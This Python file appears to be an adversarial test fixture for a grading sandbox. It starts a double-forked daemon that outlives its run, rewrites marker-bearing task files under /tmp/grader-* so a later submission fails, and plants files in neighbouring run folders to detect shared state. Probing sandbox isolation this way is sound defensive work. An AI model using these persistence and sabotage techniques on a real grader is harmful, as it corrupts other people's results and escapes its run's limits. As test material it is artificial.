"""Outlive this run and spoil the next submission's: a warm probe's attack.

A double-forked daemon in a session of its own (a fresh interpreter, free
of the probe's patches) rewrites, for fifteen seconds, every task file that
carries the victim's marker in the grader's folders under /tmp; a file
planted in each run folder a warm probe may use next tells a second copy of
this attack, graded later, that the runs share their files.  Without the
sandbox the daemon lives on and finds the next submission's working copies
under /tmp; in the sandbox the warm probe kills it and empties its tmpfs
after each run.  Only files with the marker are
touched, so that an unconfined run harms nothing else on the machine.
"""
import os
import sys

PLANTED = "planted-by-lingerer"

# The daemon's program; the marker is built so that no file holds it whole
# but the victim's.
DAEMON = """
import glob, os, time
marker = b"# lingerer-" + b"victim"
end = time.monotonic() + 15
while time.monotonic() < end:
    for top in glob.glob("/tmp/grader-*"):
      for folder, _, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            try:
                with open(path, "rb") as handle:
                    if not name.endswith(".py") or marker not in handle.read():
                        continue
                with open(path, "wb") as handle:
                    handle.write(b"raise SystemExit(1)\\n")
            except OSError:
                pass
    time.sleep(0.02)
"""


def _planted(top: str, own: str) -> bool:
    """Tell whether an earlier run left its files beside this one's."""
    try:
        return any(os.path.exists(os.path.join(top, name, PLANTED))
                   for name in os.listdir(top) if name != own)
    except OSError:
        return False


def _plant(top: str, own: str) -> None:
    """Leave a file in each run folder a warm probe may use next."""
    for number in range(1, 200):
        if "run-%d" % number == own:
            continue
        try:
            os.makedirs(os.path.join(top, "run-%d" % number), exist_ok=True)
            with open(os.path.join(top, "run-%d" % number, PLANTED), "wb"):
                pass
        except OSError:
            return


def _first() -> bool:
    """Tell whether this is the first task of the run to get here."""
    try:
        os.close(os.open(os.path.join("..", "..", "lingerer"),
                         os.O_CREAT | os.O_EXCL | os.O_WRONLY))
        return True
    except OSError:
        return False


def _linger() -> bool:
    """Start the daemon in a session of its own, and plant the files.

    Return whether another run's planted files were there to see.
    """
    here = os.getcwd()
    # Above the run's folder: /tmp unconfined, the warm probe's tmpfs inside.
    top = os.path.abspath(os.path.join(here, "..", "..", ".."))
    own = os.path.basename(os.path.dirname(os.path.dirname(here)))
    seen = False
    if top != "/tmp":  # never litter the machine's own /tmp
        seen = _planted(top, own)
        _plant(top, own)
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return seen
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-S", "-c", DAEMON])
    finally:
        os._exit(0)


# The harm shows in the next submission's grade; what an earlier one left
# behind costs this one its own.
ESCAPED = _first() and _linger()
